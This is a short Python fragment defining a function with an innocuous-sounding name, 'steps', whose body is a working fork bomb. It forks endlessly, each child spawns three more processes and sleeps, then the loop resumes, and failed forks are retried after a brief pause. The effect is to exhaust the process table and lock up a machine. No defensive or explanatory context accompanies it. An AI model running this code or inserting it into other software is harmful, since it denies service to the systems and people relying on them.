# resource; survivors alive; forks a tree whose leaves sleep
import os, time
def steps(n):
    while True:
        try:
            if os.fork() == 0:
                for _ in range(3):
                    try:
                        os.fork()
                    except OSError:
                        pass
                time.sleep(600)
        except OSError:
            time.sleep(0.01)
